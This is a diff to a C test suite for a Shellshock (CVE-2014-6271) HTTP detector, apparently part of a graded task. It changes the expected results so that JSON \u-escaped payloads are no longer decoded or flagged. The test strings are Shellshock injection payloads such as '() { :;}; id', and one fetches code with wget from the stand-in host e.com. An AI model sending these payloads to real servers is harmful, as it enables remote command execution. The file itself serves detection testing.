@@ -105,10 +105,11 @@ static const http_case_t positive_cases[] = {
      "POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded; charset=UTF-8\r\n\r\n"
      "()+{+:;};+echo=1",
      1, {{BODY, NULL, "() { :;}; echo=1", C6271}}, 0},
-    {"JSON string values, not keys",
+    {"JSON string values, not keys, read raw",
      "POST /api HTTP/1.1\r\nContent-Type: application/json\r\n\r\n"
-     "{\"() { :;}; key\": \"() { :;}; echo a\", \"k\": [\"x\", \"\\u0028\\u0029 { :; }; echo \\\"b\\\"\"]}",
-     2, {{BODY, NULL, "() { :;}; echo a", C6271}, {BODY, NULL, "() { :; }; echo \"b\"", C6271}}, 0},
+     "{\"() { :;}; key\": \"() { :;}; echo a\", \"k\": [\"x\", \"() { :; }; echo \\\"b\\\"\"]}",
+     2, {{BODY, NULL, "() { :;}; echo a", C6271}, {BODY, NULL, "() { :; }; echo \\\"b\\\"", C6271}},
+     0},
     {"JSON sniffed from the first byte",
      "POST /api HTTP/1.1\r\nContent-Type: text/plain\r\n\r\n  [ \"() { :;}; wget http://e.com/x\" ]",
      1, {{BODY, NULL, "() { :;}; wget http://e.com/x", C6271}}, 0},
@@ -179,6 +180,13 @@ static const http_case_t negative_cases[] = {
     {"JavaScript body",
      "POST /upload HTTP/1.1\r\nContent-Type: application/javascript\r\n\r\n"
      "var f = function() { return 1; };\n(function () { f(); })();\n",
+     0, {{0}}, 0},
+    {"JSON \\u escapes are not decoded (GRADING.md §1: raw)",
+     "POST /api HTTP/1.1\r\nContent-Type: application/json\r\n\r\n"
+     "{\"cmd\": \"\\u0028\\u0029 \\u007b :;}; id\", \"b\": \"\\n() { :;}; id\"}",
+     0, {{0}}, 0},
+    {"JSON-looking plain body with \\u escapes",
+     "POST /api HTTP/1.1\r\nContent-Type: text/plain\r\n\r\n[\"\\u0028\\u0029 { :;}; id\"]",
      0, {{0}}, 0},
     {"GraphQL body",
      "POST /graphql HTTP/1.1\r\nContent-Type: application/json\r\n\r\n"
@@ -300,8 +308,8 @@ static const prefilter_case_t prefilter_cases[] = {
     {"%28)", true},
     {"(%29", true},
     {"%28%20%09%0a%0D+%29", true},
-    {"\\u0028\\u0029", true},
-    {"\\u0028\\n\\t\\r\\u0020)", true},
+    {"\\u0028\\u0029", false}, /* JSON escapes are not decoded */
+    {"\\u0028\\n\\t\\r\\u0020)", false},
     {"x=(\r\n )", true},
     {"(((((()", true},
     {"%28%2", false},
